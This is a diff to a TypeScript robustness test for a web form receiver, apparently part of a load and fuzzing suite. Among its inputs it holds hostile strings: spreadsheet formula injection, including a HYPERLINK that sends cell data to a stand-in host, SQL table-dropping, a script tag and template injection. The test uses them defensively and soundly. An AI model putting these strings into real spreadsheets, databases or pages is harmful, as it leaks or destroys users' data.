@@ -7,17 +7,34 @@ import { cpus, loadavg } from "node:os";
 import { join, resolve } from "node:path";
 import { setTimeout as wait } from "node:timers/promises";
 import { defaultEndpoints } from "../../contract/addresses.ts";
-import { fields } from "../../contract/submission.ts";
+import { fields, largestBody } from "../../contract/submission.ts";
 import { readSubmissions, type StoredSubmission } from "../../receiver/server/read-submissions.ts";
 import { type ServedBuild, serveBuild } from "../test-sites/serve-build.ts";
-import { malformedBodies } from "./malformed-bodies.ts";
-import { table } from "./report.ts";
+import { enquiry, table } from "./measure.ts";
 
 /** Milliseconds. */
 const measuredTime = 5_000;
 const kills = 50;
 const malformed = 20_000;
-const seed = 20_261_128;
+
+const hostileTexts = [
+  ...[
+    "=1+1",
+    '=HYPERLINK("https://x.example/?"&A1)',
+    "\t=1",
+    "1/2",
+    "",
+    " ",
+    "\u200b",
+    "a\r\nb",
+    "\0",
+    "\uFEFF",
+    "\ud83d",
+  ],
+  ...["'; DROP TABLE enquiries; --", "<script>alert(1)</script>", "{{7*7}}", "%s%n", "अदिति 🙏🏽", "a\u0301", "\u202e"],
+  "🙏🏽".repeat(1_000),
+  "x".repeat(largestBody / 4),
+];
 
 let senders = 0;
 
@@ -114,32 +131,31 @@ async function killAtRandom(): Promise<string> {
 
 async function sendMalformedBodies(): Promise<string> {
   const server = await start("malformed");
-  const bodies = malformedBodies(seed);
-  const expected = new Map<string, Record<string, string>>();
+  const expected = new Map<string, Texts>();
   const memory: number[] = [];
   const answers: Record<number, number> = {};
   let sent = 0;
   let wrong = 0;
   await repeat(Number.POSITIVE_INFINITY, 8, async () => {
     if (sent >= malformed) return false;
-    if (sent++ % 2_000 === 0) memory.push(memoryOf(server));
-    const { body, headers, stored } = bodies.next().value;
-    const status = await post(server, body, headers);
+    if (sent % 2_000 === 0) memory.push(memoryOf(server));
+    const { body, type = "text/plain;charset=UTF-8", stored } = malformedBody(sent++);
+    const status = await post(server, body, { "Content-Type": type });
     answers[status] = (answers[status] ?? 0) + 1;
-    if (stored) expected.set(String(Number.parseInt(stored.name ?? "", 10)), stored);
+    if (stored) expected.set(String(stored.name), stored);
     if (stored ? status !== 200 : status !== 400 && status !== 413) wrong++;
     return true;
   });
   memory.push(memoryOf(server));
   await server.close();
-  const rows = new Map(stored("malformed").map(({ texts }) => [String(Number.parseInt(texts.name, 10)), texts]));
-  const lost = [...expected].filter(([number, texts]) => !isWhole(rows.get(number), texts)).length;
+  const rows = new Map(stored("malformed").map(({ texts }) => [texts.name, texts]));
+  const lost = [...expected].filter(([name, texts]) => !isWhole(rows.get(name), texts)).length;
   // A process may warm up; what still grows by more than a tenth at the end leaks.
   const mean = (samples: number[]) => samples.reduce((sum, sample) => sum + sample, 0) / samples.length;
   const grows = mean(memory.slice(-3)) > mean(memory.slice(-6, -3)) * 1.1;
   if (wrong + lost > 0 || rows.size !== expected.size || grows) process.exitCode = 1;
   return table(
-    [`Malformed and hostile bodies, seed ${seed}`, ""],
+    ["Malformed and hostile bodies", ""],
     [
       ["sent", sent],
       ...Object.entries(answers).map(([status, count]) => [`answered ${status}`, count] as const),
@@ -151,6 +167,39 @@ async function sendMalformedBodies(): Promise<string> {
       ["memory, last three samples against the three before", grows ? "grows" : "flat"],
     ],
   );
+}
+
+type Texts = Record<string, string>;
+
+/** @returns `stored`: what must be stored, undefined when the body must be refused */
+function malformedBody(number: number): { body: string | Uint8Array<ArrayBuffer>; type?: string; stored?: Texts } {
+  const texts: Texts = Object.fromEntries(
+    fields.enquiry.map((name, index) => [name, hostileTexts[(number * 7 + index * 3) % hostileTexts.length] ?? ""]),
+  );
+  texts.name = `Person ${number}`;
+  const json = (changes = {}) => JSON.stringify({ ...texts, ...changes });
+  const bodies = [
+    { body: json(), stored: texts },
+    { body: json(), type: "image/png", stored: texts },
+    { body: `\uFEFF \n${json({ extra: [texts], suspect: true })}`, stored: texts },
+    {
+      body: new URLSearchParams(texts).toString(),
+      type: "application/x-www-form-urlencoded",
+      // The receiver takes back that a browser writes each line end as CRLF.
+      stored: Object.fromEntries(fields.enquiry.map((name) => [name, (texts[name] ?? "").replaceAll("\r\n", "\n")])),
+    },
+    { body: json({ mobile: undefined }) },
+    { body: json({ email: [null, 5, {}, [texts.email], true][number % 5] }) },
+    { body: `[${json()}]` },
+    { body: json().slice(0, -1) },
+    { body: json(), type: "multipart/form-data; boundary=x" },
+    // Bytes that are not UTF-8.
+    { body: new TextEncoder().encode(json()).fill(0xff, 10, 11) },
+    { body: "[".repeat(number) },
+    { body: ["", " ", "null", "5", '"text"', "name=Asha", "\0"][number % 7] ?? "" },
+    { body: "x".repeat(number % 20 === 0 ? largestBody + 1 : 1) },
+  ];
+  return bodies[number % bodies.length] ?? { body: "" };
 }
 
 function start(name: string): Promise<ServedBuild> {
@@ -174,14 +223,10 @@ async function post(
   return response.status;
 }
 
-/** Resident memory in MB; not a number where the system has no /proc. */
+/** Resident memory in MB, as Linux reports it. */
 function memoryOf({ pid }: ServedBuild): number {
-  try {
-    const [, kilobytes] = /^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "utf8")) ?? [];
-    return Math.round(Number(kilobytes) / 1024);
-  } catch {
-    return Number.NaN;
-  }
+  const [, kilobytes] = /^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "utf8")) ?? [];
+  return Math.round(Number(kilobytes) / 1024);
 }
 
 /**
@@ -196,11 +241,6 @@ async function repeat(milliseconds: number, connections: number, action: () => P
   };
   await Promise.all(Array.from({ length: connections }, work));
   return (done / (performance.now() - start)) * 1_000;
-}
-
-function enquiry(name: string): Record<(typeof fields.enquiry)[number], string> {
-  const message = `Need help with annual filing for two companies. ${name}`;
-  return { name, email: "asha@example.com", mobile: "+91 98765 43210", subject: "Annual filing", message };
 }
 
 function stored(name: string): StoredSubmission<"enquiry">[] {
